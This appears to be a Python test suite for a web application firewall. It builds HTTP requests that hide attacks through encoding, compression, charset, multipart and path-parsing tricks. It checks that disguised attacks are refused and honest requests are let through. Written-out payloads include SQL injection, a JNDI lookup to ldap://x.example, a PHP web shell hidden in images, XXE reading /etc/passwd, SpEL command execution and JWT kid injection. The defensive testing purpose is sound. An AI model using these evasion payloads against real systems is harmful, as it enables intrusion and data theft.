#!/usr/bin/env python3
"""Requests that hide an attack from whoever reads them differently than the application does.

Each is judged by `merlon check`. `hidden` must be refused, `honest` must not.
"""
import base64, gzip, json, random, urllib.parse, zlib

from judging import Judge, judge, request

SQL = b"1' UNION SELECT password FROM users--"
SQL_URL = b"1%27%20UNION%20SELECT%20password%20FROM%20users--"
JSON = b'Content-Type: application/json'
FORM = b'Content-Type: application/x-www-form-urlencoded'


JUDGE = Judge()
expect = JUDGE.expect


def flood_of_alerts():
    """A verdict keeps a few detections; those that only alert must not crowd out one that refuses."""
    alerts = b'&'.join(b'a%d=%%3Cscript%%3Ealert(1)%%3C/script%%3E' % i for i in range(40))
    expect({'sql behind 40 alerts': request(b'/?' + alerts + b'&q=' + SQL_URL)}, {'40 alerts': request(b'/?' + alerts)},
           '  protections: {xss: alert, code: alert}\n')


def steps_that_run_out():
    """Work that compresses well must not use up the steps that the last value needs."""
    def packed(unit, last):
        values = ','.join('"' + (unit * 20)[:100] + str(i) + '"' for i in range(10000))
        body = gzip.compress(('{"a":[' + values + '],"q":"' + last + '"}').encode())
        return request(fields=[JSON, b'Content-Encoding: gzip'], body=body)
    units = ['select ', '<a b=c ', ';cat ', '((', '{{a', '/*', "it's a ", 'one, two; three (four) ']
    expect({'sql behind ' + u: packed(u, SQL.decode()) for u in units}, {u: packed(u, 'x') for u in units[-2:]})
    cookies = b'; '.join(b'n%d=it%%27s a (good) <day> & more' % i for i in range(900))
    expect({}, {'many cookies': request(fields=[b'Cookie: ' + cookies])})


def fields_that_were_not_looked_at():
    expect({
        'host': request(host=b"a'+(select(sleep(5)))+'"),
        'authority of HTTP/1.0': b"GET http://a'+(select(sleep(5)))+'/ HTTP/1.0\r\n\r\n",
        'sec-fetch-site': request(fields=[b'Sec-Fetch-Site: ${jndi:ldap://x.example/a}']),
        'cookie with ; in quotes': request(fields=[b'Cookie: $Version=1; a="1\' UNION ;SELECT password FROM users--"']),
        'cookie with escapes': request(fields=[b'Cookie: a="1\\\' \\U\\N\\I\\O\\N \\S\\E\\LECT password FROM users--"']),
        'cookie with octal': request(fields=[b'Cookie: x=y; b=a="1\\047;\\040UNION SELECT password FROM users--"']),
    }, {
        'host and port': request(host=b'[2001:db8::1]:8080', fields=[b'Sec-Fetch-Site: same-origin', b'Sec-Fetch-Mode: no-cors']),
        'quoted cookies': request(fields=[b'Cookie: a="x\\054y; z"; b=""; c="; d="\\"']),
    })


def codings_and_types_that_are_read_otherwise():
    packed = gzip.compress(b'q=' + SQL_URL)
    expect({
        'identity, then gzip in a second field': request(fields=[FORM, b'Content-Encoding: identity', b'Content-Encoding: gzip'], body=packed),
        'gzip in two fields': request(fields=[FORM, b'Content-Encoding: gzip', b'Content-Encoding: gzip'], body=gzip.compress(packed)),
        'a comma ends the type': request(fields=[FORM + b',x'], body=b'\x01=1&q=' + SQL_URL),
        'a space ends the type': request(fields=[FORM + b' x'], body=b'\x01=1&q=' + SQL_URL),
    }, {
        'gzip': request(fields=[FORM, b'Content-Encoding: gzip'], body=gzip.compress(b'q=1')),
        'empty fields': request(fields=[FORM, b'Content-Encoding:', b'Content-Encoding: gzip'], body=gzip.compress(b'q=1')),
    })


def codings():
    """Made with the programs brotli and zstd: "q=" and SQL_URL, "q=1", "q=" and four million zeros."""
    attack = {'br': 'DxmAcT0xJTI3JTIwVU5JT04lMjBTRUxFQ1QlMjBwYXNzd29yZCUyMEZST00lMjB1c2Vycy0tAw==',
              'zstd': 'KLUv/QRYmQEAcT0xJTI3JTIwVU5JT04lMjBTRUxFQ1QlMjBwYXNzd29yZCUyMEZST00lMjB1c2Vycy0tDBkhXQ=='}
    plain = {'br': 'DwGAcT0xAw==', 'zstd': 'KLUv/QRYGQAAcT0xHSvGKw=='}
    bomb = {'br': 'nwEAQPglYXri4rNAIPf+5wA=',
            'zstd': 'KLUv/QRYXAAAGHE9MAEA+v85GAICABAwAgAQMAIAEDACABAwAgAQMAIAEDACABAwAgAQMAIAEDACABAwAgAQMAIAEDACABAwAgAQMAIA'
                    'EDACABAwAgAQMAIAEDACABAwAgAQMAIAEDACABAwAgAQMAIAEDACABAwAgAQMAIAEDACABAwAgAQMAIAEDACABAwEQAAMDAMC1zH'}

    def coded(coding, body):
        return request(fields=[FORM, b'Content-Encoding: ' + coding.encode()], body=body)
    hidden, honest = {}, {}
    for c in attack:
        whole = base64.b64decode(attack[c])
        hidden |= {c: coded(c, whole), c + ' in gzip': coded(c + ', gzip', gzip.compress(whole)), c.upper() + ' with q': coded(c.upper() + ';q=1', whole),
                   c + ' cut': coded(c, whole[:-2]), c + ' and more': coded(c, base64.b64decode(plain[c]) + b'&q=' + SQL_URL),
                   c + ' bomb': coded(c, base64.b64decode(bomb[c])), 'three of ' + c: coded(', '.join([c] * 3), whole)}
        honest |= {'honest ' + c: coded(c, base64.b64decode(plain[c])), 'honest empty ' + c: coded(c, b'')}
    hidden |= {c: coded(c, b'\x1f\x9d\x90q') for c in ('compress', 'x-xz', 'lz4', 'dcb', 'utf-8, exi')}
    hidden |= {'attack in ' + c: coded(c, b'q=' + SQL_URL) for c in ('utf-8', 'none', 'aws-chunked')}
    honest |= {'honest ' + c: coded(c, b'q=1') for c in ('utf-8', 'none', 'aws-chunked', 'identity')}
    expect(hidden, honest)
    expect({c + ' refused by policy': coded(c, b'q=1') for c in ('utf-8', 'rot13')}, {}, '  protections: {malformed: {subs: {body: prevent}}}\n')
    expect({}, {c + ' let in by policy': coded(c, b'q=1') for c in ('compress', 'gzip, br, zstd')}, '  protections: {malformed: {subs: {limit: alert}}}\n')


def charsets():
    text = SQL.decode()
    json_text, xml = json.dumps({'ä': text}, ensure_ascii=False), '<?xml version="1.0" encoding="%s"?><a>' + text + '</a>'
    part = b'--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset=%s\r\n\r\n%s\r\n--b--\r\n'
    multipart, xml_type = b'Content-Type: multipart/form-data; boundary=b', b'Content-Type: application/xml'
    hidden = {'json in ' + c: request(fields=[JSON], body=json_text.encode(c))
              for c in ('utf-16', 'utf-16-le', 'utf-16-be', 'utf-32', 'utf-32-le', 'utf-32-be')}
    hidden |= {'typeless json in ' + c: request(body=json_text.encode(c)) for c in ('utf-16', 'utf-16-be', 'utf-32-le')}
    hidden |= {'form in ' + c: request(fields=[FORM + b'; charset=' + c.encode()], body=b'q=' + text.encode(c))
               for c in ('cp037', 'utf-16', 'utf-7', 'cp500', 'iso-2022-jp')}
    hidden |= {'xml in ' + c: request(fields=[xml_type], body=(xml % c).encode(c)) for c in ('utf-16', 'utf-32', 'cp037')}
    hidden |= {
        'two charsets': request(fields=[FORM + b'; charset=utf-8; charset=ibm037'], body=b'q=' + text.encode('cp037')),
        'json in utf-7': request(fields=[JSON + b'; charset=utf-7'], body=b'{"a":"+ACc- or 1+AD0-1"}'),
        'xml in utf-7': request(fields=[xml_type], body=b'<?xml version="1.0" encoding="utf-7"?><a>+ACc- or 1+AD0-1</a>'),
        'part in ebcdic': request(fields=[multipart], body=part % (b'ibm037', text.encode('cp037'))),
        'multipart in ebcdic': request(fields=[multipart + b'; charset=ibm500'], body=part % (b'utf-8', text.encode('cp500'))),
    }
    honest = {'form in ' + c: request(fields=[FORM + b'; charset=' + c.encode()], body='q=Grüße'.encode(c))
              for c in ('utf-8', 'UTF8', 'iso-8859-1', 'windows-1252', 'ISO-8859-15')}
    honest |= {'form in ' + c: request(fields=[FORM + b'; charset="' + c.encode() + b'"'], body='q=日本'.encode(c)) for c in ('shift_jis', 'EUC-JP', 'gbk')}
    honest |= {'honest json in ' + c: request(fields=[JSON + b'; charset=' + c.encode()], body='{"a":"Grüße, 日本"}'.encode(c)) for c in ('utf-8', 'utf-16', 'utf-32')}
    honest |= {'honest xml in ' + c: request(fields=[xml_type], body=('<?xml version="1.0" encoding="%s"?><a>Grüße</a>' % c).encode(c)) for c in ('utf-16', 'windows-1252')}
    honest |= {'part': request(fields=[multipart], body=part % (b'utf-8', b'x')), 'no name': request(fields=[FORM + b'; charset='], body=b'q=1')}
    expect(hidden, honest)


def bodies_that_may_be_a_form():
    expect({
        'no type, control byte': request(body=b'\x01=1&q=' + SQL_URL),
        'text, control byte': request(fields=[b'Content-Type: text/plain'], body=b'\x01=1&q=' + SQL_URL),
        'lenient json': request(fields=[JSON], body=b'{a:"\x01", q:"' + SQL + b'"}'),
        'lenient json, far inside': request(fields=[JSON], body=b'{a:1, b:"' + b'x' * 300000 + b'", q:"' + SQL + b'", c:"' + b'y' * 100000 + b'"}'),
    }, {'prose': request(fields=[b'Content-Type: text/plain'], body=b'a = b & c: ' + b'honest words, and more of them. ' * 2000)})


def fields_that_pass_for_files():
    """The content of a file is looked at for code only; what is a field for the application is not one."""
    def part(params, content):
        body = b'--b\r\nContent-Disposition: form-data; ' + params + b'\r\n\r\n' + content + b'\r\n--b--\r\n'
        return request(fields=[b'Content-Type: multipart/form-data; boundary=b'], body=body)
    fields = {'no file name': b'name="a"', 'only filename*': b'name="a"; filename*=utf-8\'\'x', 'empty': b'name="a"; filename=""',
              'pieces': b'name="a"; filename*0="x"', 'escaped quote': b'name="a\\"; filename="x"', 'escape escaped': b'name="a\\\\"; filename="x"',
              'single quotes': b"name='a; filename=x'", 'quote in a token': b'name=a"; filename="x"', 'quote behind': b'name="a"y"; filename="x"',
              'apostrophe': b"name=a'; filename='x", 'ext apostrophe': b"name=a; y*=z'; filename=\"x'\"", 'space': b'name="a"; filename ="x"'}
    files = [b'name="a"; filename="x.txt"', b'name=a; filename=x.txt; filename*=utf-8\'\'x.txt', b'name="a"; filename="C:\\\\dir\\x.txt"',
             b'name="a"; filename="Bob\'s.txt"', b'filename="x.txt"; name="a"', b'name="a"; filename="x.txt"; size=12']
    expect({k: part(v, SQL) for k, v in fields.items()}, {v.decode(): part(v, SQL) for v in files})


def code_within_pictures():
    """Of a picture only what stands out is looked at: a tag must, wherever it lies and the windows are cut."""
    noise = random.Random(5).randbytes(60000)
    def photo(at, what, ctype=b'image/png'):
        content = b'\x89PNG\r\n\x1a\n' + noise[:at] + what + noise[at:]
        body = b'--b\r\nContent-Disposition: form-data; name="f"; filename="x.png"\r\nContent-Type: ' + ctype + b'\r\n\r\n' + content + b'\r\n--b--\r\n'
        return request(fields=[b'Content-Type: multipart/form-data; boundary=b'], body=body)
    php = b'<?php system($_GET["c"]); ?>'
    places = [0, 100, 300, 16000, *range(16350, 16400, 3), 32700, 50000, len(noise)]
    foreign = 'é'.encode() * 200  # no picture: text in another alphabet
    expect({'sql in foreign text': request(fields=[b'Content-Type: text/plain'], body=foreign + SQL + foreign),
            'sql in foreign text without a type': request(body=foreign + SQL + foreign)}, {})
    # the start of what has no fields is looked at, in however large a piece it comes
    raw = {'php at %d of 240 KB' % at: request(fields=[b'Content-Type: application/octet-stream'], body=(noise * 4)[:at] + php + (noise * 4)[at:])
           for at in (5000, 100000, 130000)}
    expect(raw, {})
    expect({'php at %d' % at: photo(at, php) for at in places} | {'a header of php': photo(0, b'\n' * 3 + php)},
           {'a picture': photo(0, b''), 'a picture with text': photo(500, b'Exif: a photo of a house by the sea, taken in May, with a tripod' * 20)})


def endpoints_by_other_names():
    """A restriction holds however host and path are spelled; a relaxation only if every reading has it."""
    spec = '  endpoints: [{host: shop.example, path: "/Admin/*"}]\n'
    attack = b'?q=' + SQL_URL
    expect({
        'as it is': request(b'/Admin/a' + attack), 'lower case': request(b'/admin/a' + attack), 'upper case': request(b'/ADMIN/a' + attack),
        'mixed': request(b'/x/..;/aDMIN%2fa' + attack), 'dot': request(b'/Admin/a' + attack, host=b'SHOP.example.'),
        'dot, port': request(b'/Admin/a' + attack, host=b'shop.example.:8080'),
        'forwarded': request(b'/Admin/a' + attack, [b'X-Forwarded-Host: x.example, shop.example'], host=b'other.example'),
        'second override': request(b'/' + attack, [b'X-Original-URL: /', b'X-Original-URL: /admin/a']),
        'more readings than are kept': request(b'/X;a/%2e%2e/%252e%252e%252fq\\..//y;b%2f..%252f\\Admin/a' + attack),
    }, {'another path': request(b'/other' + attack), 'another host': request(b'/Admin/a' + attack, host=b'other.example')}, spec)
    spec = '  exceptions: [{protection: sqli, location: query, path: "/search/*"}]\n'
    expect({
        'climbs out': request(b'/search/../admin' + attack), 'override': request(b'/search/a' + attack, [b'X-Rewrite-URL: /search/a', b'X-Rewrite-URL: /admin']),
        'more readings than are kept ': request(b'/search/X;a/%2e/%252e%252fq\\y//z;b%2f..%252f\\a' + attack),
    }, {'search': request(b'/search/a' + attack), 'search, escaped': request(b'/search/a%2fb;c' + attack)}, spec)


def forgeries_by_method_override():
    other = [b'Cookie: s=1', b'Origin: https://evil.example', b'Sec-Fetch-Site: cross-site']
    expect({'_method': request(b'/?_method=delete', other), 'escaped': request(b'/?%5fmethod=DELETE', other),
            'header': request(b'/', [*other, b'X-HTTP-Method-Override: PUT'])},
           {'a read': request(b'/?_method=GET&%5f=DELETE', other)}, '  protections: {csrf: prevent}\n')


def attacks_longer_than_a_window():
    """field_hold is 16 KiB; the words of the attack stand 20 KiB apart."""
    words = [b"1'", b'union', b'select', b'password', b'from', b'users--']
    noise = bytes(random.Random(3).choice(b'abcdefghijklmnop, .;=(') for _ in range(20000))
    pads = {'comments': b'/*' + noise + b'*/', 'spaces': b' ' * 20000, 'mixed space': b' \t\n\x0b' * 5000, 'line comments': b'--' + noise + b'\n',
            'slash in front': b'/*/' + noise + b'*/', 'other line comments': b'#' + noise + b'\n', 'quotes': b"/*'a" + noise + b'*/'}
    hidden = {k: request(fields=[FORM], body=b'q=' + pad.join(words).replace(b'+', b' ')) for k, pad in pads.items()}
    hidden['behind what looks like a comment'] = request(fields=[FORM], body=b'q=a/*bcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrst' + pads['comments'].join(words))
    hidden['in json'] = request(fields=[JSON], body=json.dumps({'q': pads['comments'].join(words).decode()}).encode())
    hidden['tag'] = request(fields=[FORM], body=b'q=%3Cimg' + b'+' * 20000 + b'src=x' + b'+' * 20000 + b'onerror=alert(1)%3E')
    text = b'It is a long text, with words -- and # signs; (some) of them. Nothing is to be seen.\n' * 1500
    expect(hidden, {'text': request(fields=[FORM], body=b'q=' + text), 'spaces ': request(fields=[FORM], body=b'q=a' + b' ' * 100000 + b'b')})


def values_longer_than_can_be_looked_at():
    """256 KiB of one value are decoded; a policy may let larger heads in."""
    spec = '  limits: {header_bytes: 1MiB, target_bytes: 1MiB, field_hold: 256KiB}\n'
    pad = b'a' * 300000
    expect({'query behind 300 KB': request(b'/?q=' + pad + SQL_URL), 'header behind 300 KB': request(fields=[b'X-A: ' + pad + SQL]),
            'form behind 300 KB': request(fields=[FORM], body=b'q=' + pad + SQL_URL)},
           {'form of 300 KB': request(fields=[FORM], body=b'q=' + pad), 'query of 200 KB': request(b'/?q=' + pad[:200000])}, spec)


def graphql_limits():
    """Just below and just above each, wherever a document may be carried."""
    spec = '  limits: {graphql_depth: 5, graphql_aliases: 10, graphql_documents: 3}\n'

    def deep(n):
        return '{a' * n + '}' * n

    def aliases(n):
        return '{' + ' '.join('a%d: b' % i for i in range(n)) + '}'

    def member(*documents):
        body = [{'query': d, 'variables': {'x': 1}} for d in documents]
        return request(b'/graphql', [JSON], json.dumps(body if len(body) > 1 else body[0]).encode())

    def query(d):
        return request(b'/graphql?query=' + urllib.parse.quote(d).encode())

    def body(d):
        return request(b'/graphql', [b'Content-Type: application/graphql'], d.encode())
    hidden, honest = {}, {}
    for name, carry in (('member', member), ('query', query), ('body', body)):
        hidden['deep ' + name], honest['not so deep ' + name] = carry(deep(6)), carry(deep(5))
        hidden['aliases ' + name], honest['fewer aliases ' + name] = carry(aliases(11)), carry(aliases(10))
    hidden['aliases in several'], honest['few in several'] = member(aliases(6), aliases(5)), member(aliases(5), aliases(5))
    hidden['a batch'], honest['a smaller batch'] = member(*['{a}'] * 4), member(*['{a}'] * 3)
    long = '{' + ' '.join('a%d: b(t: "%s")' % (i, 'x' * 4000) for i in range(11)) + '}'
    hidden['aliases far apart'] = member(long)
    honest['no GraphQL'] = request(b'/search', [JSON], json.dumps({'query': 'x: y, ' * 20, 'text': deep(9)}).encode())
    expect(hidden, honest, spec)


def compressed_values():
    """gzip in base64, the raw deflate of SAML's redirect binding."""
    def packed(text):
        return base64.b64encode(gzip.compress(text))

    def deflated(text):
        return base64.b64encode(zlib.compress(text, 9)[2:-4])

    def in_query(name, value):
        return request(b'/sso?%s=%s' % (name, urllib.parse.quote(value, safe='').encode()))
    xxe = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:AuthnRequest>&x;</samlp:AuthnRequest>'
    saml = (b'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_7" Version="2.0" '
            b'Destination="https://idp.example/sso" AssertionConsumerServiceURL="https://shop.example/acs">'
            b'<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://shop.example</saml:Issuer></samlp:AuthnRequest>')
    member = json.dumps({'a': {'b': SQL.decode()}}).encode()
    words = ['chair', 'table', 'orders', 'of', 'the', 'shop', 'a', 'list', 'price', 'wood', 'from', 'left', 'group']
    long = ' '.join(random.Random(3).choices(words, k=20000)).encode()
    expect({'gzip': in_query(b'q', packed(SQL)), 'gzip of JSON': in_query(b'q', packed(member)),
            'gzip in a cookie': request(fields=[b'Cookie: s=' + packed(member)]),
            'gzip in JSON': request(fields=[JSON], body=json.dumps({'d': packed(SQL).decode()}).encode()),
            'gzip twice': in_query(b'q', packed(packed(SQL))), 'gzip without its end': in_query(b'q', packed(SQL)[:-12]),
            'SAML': in_query(b'SAMLRequest', deflated(xxe)), 'SAML by POST': request(fields=[FORM], body=b'SAMLResponse=' + base64.b64encode(xxe).replace(b'+', b'%2B')),
            'a bomb': in_query(b'q', packed(b'a' * (8 << 20))), 'behind many bytes': in_query(b'q', packed(b'words and more words ' * 4000 + SQL))},
           {'text': in_query(b'q', packed(b'Some words, and others.')), 'SAML as it is': in_query(b'SAMLRequest', deflated(saml)),
            'SAML by POST as it is': request(fields=[FORM], body=b'SAMLResponse=' + base64.b64encode(saml).replace(b'+', b'%2B')),
            'no gzip': in_query(b'q', base64.b64encode(b'\x1f\x8b\x08' + bytes(range(200)))),
            'long text': request(fields=[FORM], body=b'q=' + urllib.parse.quote(packed(long), safe='').encode())})


def payloads_in_pieces():
    pieces = [b"1'%20UNION/*", b'*/SELECT/*', b'*/password/*', b'*/FROM%20users--']
    joined = b'&'.join(b'q=' + p for p in pieces)
    part = b'--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n%s\r\n'
    parts = b''.join(part % p.replace(b'%20', b' ') for p in pieces) + b'--b--\r\n'
    css = b'q=/*%20one%20*/&q=/*%20two%20*/&r=a%20/*%20b&q=c'
    multipart = b'Content-Type: multipart/form-data; boundary=b'
    expect({'query': request(b'/?' + joined), 'query, others between': request(b'/?' + joined.replace(b'&', b'&a=/*x*/&')), 'form': request(fields=[FORM], body=joined),
            'multipart': request(fields=[multipart], body=parts),
            'behind many': request(fields=[FORM], body=b'&'.join(b'a%d=/*' % i for i in range(900)) + b'&' + joined)},
           {'comments': request(b'/?' + css), 'comments in a form': request(fields=[FORM], body=css),
            'many comments': request(fields=[FORM], body=b'&'.join(b'a%d=/*+x+*/' % i for i in range(400)))})


def data_that_browsers_send_as_a_file():
    part = b'--b\r\nContent-Disposition: form-data; name="meta"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n--b--\r\n'
    multipart, text = b'Content-Type: multipart/form-data; boundary=b', json.dumps({'q': SQL.decode()}).replace("'", '\\u0027').encode()
    expect({k: request(fields=[multipart], body=part % (b'blob', k.encode(), text)) for k in ('application/json', 'application/vnd.api+json')},
           {'a file': request(fields=[multipart], body=part % (b'export.json', b'application/json', text)),
            'honest': request(fields=[multipart], body=part % (b'blob', b'application/json', b'{"a":"it is"}'))})


def charset_fields():
    text, part = SQL.decode().encode('cp037'), b'--b\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
    multipart = b'Content-Type: multipart/form-data; boundary=b'
    expect({'form': request(fields=[FORM], body=b'_charset_=ibm037&q=' + text), 'query': request(b'/?_charset_=utf-7&q=1'),
            'multipart': request(fields=[multipart], body=part % (b'_charset_', b'cp500') + part % (b'q', text) + b'--b--\r\n')},
           {'honest': request(fields=[FORM], body=b'_charset_=UTF-8&q=1'), 'empty': request(b'/?_charset_=&q=1'), 'latin': request(b'/?_charset_=iso-8859-1&q=1')})


def more_arguments_than_allowed():
    many = b'&'.join(b'a%d=1' % i for i in range(1100))
    expect({'query': request(b'/?' + many + b'&q=' + SQL_URL), 'form': request(fields=[FORM], body=many + b'&q=' + SQL_URL),
            'cookies': request(fields=[b'Cookie: ' + many.replace(b'&', b';') + b';q=' + SQL_URL])},
           {'arguments': request(b'/?' + many)}, '  protections: {malformed: alert}\n')


def values_remembered_as_clean():
    """What was not looked into, for the request was refused already or the value lay too deep, is not clean."""
    inner = '{"a":"BAhvOhVHZW06OlJlcXVpcmVtZW50"}'  # an object of Ruby, seen as a value of its own only
    deep = inner
    for _ in range(3):
        deep = json.dumps({'q': deep})
    query = b'q=' + base64.b64encode(inner.encode()).replace(b'=', b'%3D')
    expect({'behind an attack': request(b'/?a=' + SQL_URL + b'&' + query), 'alone': request(b'/?' + query)},
           {'too deep': request(fields=[JSON], body=json.dumps({'q': deep}).encode())})
    expect({'not deep': request(fields=[JSON], body=json.dumps({'q': inner}).encode())}, {})
    verdicts = judge({'deep': request(fields=[JSON], body=json.dumps({'q': deep}).encode()),
                      'then not deep': request(fields=[JSON], body=json.dumps({'q': inner}).encode())})
    if verdicts['then not deep']['action'] != 'prevent':
        JUDGE.failures.append('then not deep: remembered as clean')


def inclusions_by_any_name():
    """The prefix of a namespace is the document's own choice."""
    xml = [b'Content-Type: application/xml']
    text = b'<a xmlns:%s="http://www.w3.org/%s"><%s:include href="secret.txt" parse="text"/></a>'
    expect({p.decode(): request(fields=xml, body=text % (p, b'2001/XInclude', p)) for p in (b'xi', b'i')},
           {'a picture': request(fields=xml, body=text % (b'x', b'1999/xlink', b'x'))})


def values_that_name_keys():
    """Fields that are dropped for their name, headers of tokens, base64 with its padding escaped or with a name in front."""
    def token(header):
        parts = [header, {'sub': '1', 'aud': 'https://a.example/b'}]
        return b'.'.join(base64.urlsafe_b64encode(json.dumps(p).encode()).rstrip(b'=') for p in parts) + b'.c2lnbmF0dXJl'
    spel = b'T(java.lang.Runtime).getRuntime().exec("id")'
    script, climbs = base64.b64encode(b'<script>alert(1)</script>'), base64.b64encode(b'../../../../etc/passwd')
    java = b'aced0005737200116a6176612e7574696c2e48617368'
    expect({
        'dropped field': request(fields=[b'spring.cloud.function.routing-expression: ' + spel]),
        'key of a token': request(fields=[b'Authorization: Bearer ' + token({'alg': 'HS256', 'kid': "x' UNION SELECT 'A'-- "})]),
        'file of a token': request(fields=[b'Authorization: Bearer ' + token({'alg': 'HS256', 'kid': '../../../../dev/null'})]),
        'token in a cookie': request(fields=[b'Cookie: t=' + token({'alg': 'HS256', 'kid': 'x|/usr/bin/id'})]),
        'token in a query': request(b'/?t=' + token({'alg': 'HS256', 'kid': '1;sleep 5'})),
        'padding of a cookie': request(fields=[b'Cookie: q=' + script.replace(b'=', b'%3D')]),
        'name in front': request(b'/?target=l1_' + climbs),
        'object in hexadecimal digits': request(b'/?q=' + java),
        'the same in capitals': request(b'/?q=' + java.upper()),
    }, {
        'id in a dropped field': request(fields=[b'X_Request.Id: 7c9e6679-7425-40de-944b-e07fc1f90ae7']),
        'token': request(fields=[b'Authorization: Bearer ' + token({'alg': 'RS256', 'typ': 'JWT', 'kid': 'https://id.example/keys/2024-01'})]),
        'cookie': request(fields=[b'Cookie: q=' + base64.b64encode(b'{"theme":"dark","size":12}').replace(b'=', b'%3D')]),
        'picture behind a name': request(b'/?target=l1_' + base64.b64encode(b'pictures/2024/summer.jpg')),
        'hash': request(b'/?q=acef0005737200116a6176612e757469'),
    })


TESTS = [flood_of_alerts, steps_that_run_out, fields_that_were_not_looked_at, codings_and_types_that_are_read_otherwise, codings,
         charsets, bodies_that_may_be_a_form, fields_that_pass_for_files, code_within_pictures, endpoints_by_other_names,
         forgeries_by_method_override, attacks_longer_than_a_window, values_longer_than_can_be_looked_at, more_arguments_than_allowed,
         payloads_in_pieces, graphql_limits, compressed_values, data_that_browsers_send_as_a_file, charset_fields,
         values_remembered_as_clean, inclusions_by_any_name, values_that_name_keys]
JUDGE.run(TESTS)
